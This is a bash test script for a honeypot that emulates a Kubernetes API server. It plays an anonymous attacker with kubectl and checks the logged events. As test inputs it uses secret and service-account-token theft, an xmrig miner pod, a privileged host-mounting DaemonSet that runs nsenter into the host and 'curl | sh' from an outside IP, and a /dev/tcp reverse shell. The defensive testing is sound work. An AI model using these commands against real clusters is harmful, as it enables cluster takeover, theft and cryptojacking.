#!/usr/bin/env bash
# kubectl (Debian's kubernetes-client, 1.20, exec over SPDY; newer ones pass too: 1.32 writes
# objects as protobuf and runs exec over WebSocket, v5.channel.k8s.io) against the Kubernetes emulation over TLS, as an attacker
# with anonymous access uses it: discovery, listing pods, secrets, nodes and namespaces in every
# namespace, reading a secret, `auth can-i`, `run`, `create deployment`, `apply` of a privileged
# host-mounting DaemonSet (with kubectl's openapi validation), the created objects shown back in
# later lists and in a watch held open, `delete`, exec over SPDY or WebSocket. Asserts what kubectl printed and the events logged for each step.
set -euo pipefail
. "$(dirname "$0")/honeypot_lib.bash"
need kubectl "apt-get install kubernetes-client"
need jq "apt-get install jq"
# grep reading all its input: with pipefail, grep -q closing the pipe early fails the writer
has() { grep "$@" >/dev/null; }

W=$(hp_workdir honeypot_kubectl)
trap 'kill "${HP_PID:-0}" 2>/dev/null || true' EXIT
hp_start "$W" -- --kube 0 --kube-tls --flush-ms 20
K=$(hp_port kube)
export HOME="$W/home"; unset KUBECONFIG
mkdir -p "$HOME"
kc() { timeout 30 kubectl --server "https://127.0.0.1:$K" --insecure-skip-tls-verify --token=x --cache-dir "$W/cache" "$@"; }
echo "kubectl: $(kubectl version --client 2>/dev/null | head -1)"

out=$(kc get pods -A) || fail "get pods -A: $out"
echo "$out" | has -E '^kube-system +kube-apiserver-control-plane-1 +1/1 +Running' || fail "pods -A: $out"
[ "$(echo "$out" | awk 'NR>1{print $1}' | sort -u | paste -sd,)" = "default,kube-system,monitoring" ] || fail "namespaces of pods: $out"
out=$(kc get secrets -A) || fail "get secrets -A"
echo "$out" | has -E '^default +db-credentials +Opaque +2 ' || fail "secrets: $out"
[ "$(echo "$out" | grep -c 'service-account-token')" = 5 ] || fail "one token per namespace: $out"
pw=$(kc get secret db-credentials -o jsonpath='{.data.password}' | base64 -d) || fail "get secret"
[ -n "$pw" ] || fail "empty secret"
kc get nodes | has -E '^control-plane-1 +Ready +control-plane,master' || fail "nodes"
[ "$(kc get ns -o name | wc -l)" = 5 ] || fail "namespaces"
kc get sa -n kube-system | has '^default ' || fail "service accounts"
kc get cm -n kube-system coredns -o yaml | has 'Corefile' || fail "configmap"
[ "$(kc auth can-i create pods)" = yes ] || fail "can-i"
[ "$(kc auth can-i '*' '*' --all-namespaces)" = yes ] || fail "can-i *"
kc api-resources 2>/dev/null | has -E '^daemonsets +ds +apps/v1 +true +DaemonSet' || fail "api-resources"

kc run miner --image=xmrig/xmrig:6.19 -- --url pool.example.net:443 --user 4Axxx | has 'pod/miner created' || fail "run"
kc create deployment web2 --image=nginx:1.25 | has 'deployment.apps/web2 created' || fail "create deployment"
cat >"$W/ds.yaml" <<'YAML'
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-agent, namespace: kube-system}
spec:
  selector: {matchLabels: {app: node-agent}}
  template:
    metadata: {labels: {app: node-agent}}
    spec:
      hostPID: true
      containers:
      - name: agent
        image: alpine:3.18
        command: ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh", "-c", "curl -s http://203.0.113.9/x | sh"]
        securityContext: {privileged: true}
      volumes: [{name: host, hostPath: {path: /}}]
YAML
kc apply -f "$W/ds.yaml" | has 'daemonset.apps/node-agent created' || fail "apply"
kc get pods | has -E '^miner +(1/1 +Running|0/1 +ContainerCreating) ' || fail "created pod not listed"
kc get ds -n kube-system | has '^node-agent ' || fail "created daemonset not listed"
kc get deploy web2 -o jsonpath='{.spec.template.spec.containers[0].image}' | has -x 'nginx:1.25' || fail "created deployment"
kc apply -f "$W/ds.yaml" | has 'node-agent configured' || fail "second apply"
kc delete pod miner | has 'pod "miner" deleted' || fail "delete"
# exec over SPDY/3.1: canned output, exit 0; with -i every stdin line is recorded and answered
out=$(kc exec web-7d4b9c6f5d-x2lqp -- sh -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token') || fail "exec"
echo "$out" | has '^eyJ' || fail "exec output: $out"
out=$(printf 'id\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n' | kc exec -i web-7d4b9c6f5d-x2lqp -- sh) || fail "exec -i"
echo "$out" | has '^uid=0(root)' || fail "exec -i output: $out"
# watch: kubectl get -w lists, then holds a watch open; a pod the same source starts meanwhile
# shows up in it. A watch without resourceVersion starts with every object as ADDED.
kc get pods -w --request-timeout=5s >"$W/watch.out" 2>&1 & wpid=$!
kc run watched --image=alpine:3.19 -- sleep 1d | has 'pod/watched created' || fail "run while watching"
wait "$wpid" || fail "get -w: $(cat "$W/watch.out")"
has -E '^web-7d4b9c6f5d-x2lqp +1/1 +Running' "$W/watch.out" || fail "get -w list: $(cat "$W/watch.out")"
has -E '^watched ' "$W/watch.out" || fail "pod created while watching not shown: $(cat "$W/watch.out")"
curl -sk --max-time 20 "https://127.0.0.1:$K/api/v1/namespaces/kube-system/pods?watch=1&timeoutSeconds=1" >"$W/watch.json" || fail "watch=1"
[ "$(jq -r 'select(.type=="ADDED") | .object.metadata.name' "$W/watch.json" | paste -sd,)" = \
  "$(kc get pods -n kube-system -o name | sed 's|^pod/||' | paste -sd,)" ] || fail "watch=1 events: $(cat "$W/watch.json")"
# WebSocket as kubectl does not speak it: v4.channel.k8s.io, a stdin line split over fragments
# with a ping between them, the close handshake
out=$(timeout 20 python3 "$(dirname "$0")/honeypot_ws.py" "$K" web-7d4b9c6f5d-x2lqp) || fail "WebSocket v4: $out"
echo "$out" | has '^root:x:0:0:root:/root:' || fail "WebSocket v4 output: $out"
hp_stop

[ "$(hp_count '.eventid=="kube.discovery" and .request.path=="/apis"')" -ge 1 ] || fail "discovery not logged"
[ "$(hp_count '.eventid=="kube.pod.list" and (.request.namespace|not)')" -ge 1 ] || fail "pod list"
[ "$(hp_count '.eventid=="kube.secret.list"')" -ge 1 ] || fail "secret list"
[ "$(hp_count '.eventid=="kube.secret.get" and .request.name=="db-credentials"')" = 1 ] || fail "secret get"
[ "$(hp_count '.eventid=="kube.auth.review" and .request.verb=="create" and .request.resource=="pods"')" = 1 ] || fail "can-i"
[ "$(hp_count '.eventid=="kube.pod.create" and .request.images==["xmrig/xmrig:6.19"] and ((.request.commands[0] // "")|test("pool.example.net"))')" = 1 ] || fail "run event"
[ "$(hp_count '.eventid=="kube.workload.create" and .request.kind=="daemonsets" and .request.privileged==true and .request.host_pid==true and .request.host_paths==["/"] and ((.request.commands[0] // "")|test("^nsenter -t 1"))')" = 1 ] \
  || fail "daemonset event"
[ "$(hp_count '.eventid=="kube.workload.create" and .request.kind=="deployments" and .request.images==["nginx:1.25"]')" = 1 ] || fail "deployment event"
[ "$(hp_count '.eventid=="kube.pod.delete" and .request.name=="miner"')" = 1 ] || fail "delete event"
[ "$(hp_count '.eventid=="kube.pod.watch" and ((.request.query // "")|test("watch=true"))')" -ge 1 ] || fail "watch event"
# kubectl >= 1.29 asks for WebSocket first, then SPDY: one event per attempt
[ "$(hp_count '.eventid=="kube.exec" and .request.pod=="web-7d4b9c6f5d-x2lqp" and .request.command[0]=="sh" and ((.request.command[2] // "")|test("serviceaccount/token"))')" -ge 1 ] \
  || fail "exec event"
[ "$(hp_count '.eventid=="kube.stdin" and .request.pod=="web-7d4b9c6f5d-x2lqp" and .request.line=="id"')" = 1 ] || fail "stdin line 1"
[ "$(hp_count '.eventid=="kube.stdin" and ((.request.line // "")|test("/dev/tcp/203.0.113.5"))')" = 1 ] || fail "stdin line 2"
[ "$(hp_count '.eventid=="kube.stdin" and .request.line=="cat /etc/passwd"')" = 1 ] || fail "fragmented stdin line"
[ "$(hp_count '.eventid=="kube.exec" and .request.websocket_protocol=="v4.channel.k8s.io, base64.channel.k8s.io"')" = 1 ] || fail "v4 exec event"
# kubectl >= 1.30 asks for v5.channel.k8s.io first and, granted it, never falls back to SPDY
minor=$(kubectl version --client -o json 2>/dev/null | jq -r '.clientVersion.minor' | tr -dc 0-9)
if [ "${minor:-0}" -ge 30 ]; then
  [ "$(hp_count '.eventid=="kube.exec" and .request.upgrade=="websocket" and .request.websocket_protocol=="v5.channel.k8s.io"')" = 2 ] || fail "WebSocket exec events"
  [ "$(hp_count '.eventid=="kube.exec" and ((.request.upgrade // "")|test("SPDY"))')" = 0 ] || fail "SPDY fallback after WebSocket"
fi
echo "ok: kubectl $(hp_count '.service=="kube" and (.eventid|startswith("session.")|not)') steps logged"
